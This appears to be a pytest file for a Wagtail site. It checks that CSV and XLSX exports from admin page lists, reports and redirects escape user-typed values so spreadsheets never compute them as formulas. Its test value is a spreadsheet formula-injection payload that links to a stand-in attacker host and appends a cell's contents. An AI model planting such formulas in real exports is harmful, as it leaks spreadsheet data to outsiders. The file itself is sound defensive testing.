"""Files for a spreadsheet: what somebody typed is shown there, never computed."""

from io import BytesIO

import pytest
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log

from core import upstream
from tests.factories import make_article

pytestmark = [pytest.mark.django_db, pytest.mark.database]
TYPED = '=HYPERLINK("https://evil.example?x="&A2,"x")'


@pytest.fixture
def address(request, site):
    """Return the address of a list that holds what somebody typed."""
    article = make_article(site, TYPED, slug="evil")
    article.locked = True
    article.save()
    log(article, "wagtail.publish")
    Redirect.objects.create(old_path="/old", redirect_link=TYPED)
    return request.param.format(news=site.news["en"].pk)


EXPORTS = [
    "/admin/pages/{news}/",
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
    "/admin/reports/locked/",
    "/admin/redirects/",
]


@pytest.mark.parametrize("address", EXPORTS, indirect=True)
def test_no_list_gives_a_formula(admin_client, address):
    csv = b"".join(admin_client.get(f"{address}?export=csv").streaming_content).decode()
    assert "'=HYPERLINK" in csv
    assert ",=" not in csv
    assert ',"=' not in csv
    assert "\n=" not in csv
    assert '\n"=' not in csv
    book = load_workbook(BytesIO(b"".join(admin_client.get(f"{address}?export=xlsx").streaming_content)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert f"'{TYPED}" in {cell.value for cell in cells}
    assert "f" not in {cell.data_type for cell in cells}


@pytest.mark.parametrize("address", EXPORTS[:1], indirect=True)
def test_signs_that_no_file_may_hold_are_no_error(admin_client, site, address):
    make_article(site, "Bell\x07", slug="bell")
    response = admin_client.get(f"{address}?export=xlsx")
    book = load_workbook(BytesIO(b"".join(response.streaming_content)))
    assert any(str(cell.value).startswith("Bell") for row in book.active.iter_rows() for cell in row)


def test_wagtail_writes_what_would_be_computed():
    assert upstream.stock_preprocess(SpreadsheetExportMixin(), "title", TYPED, "csv") == TYPED
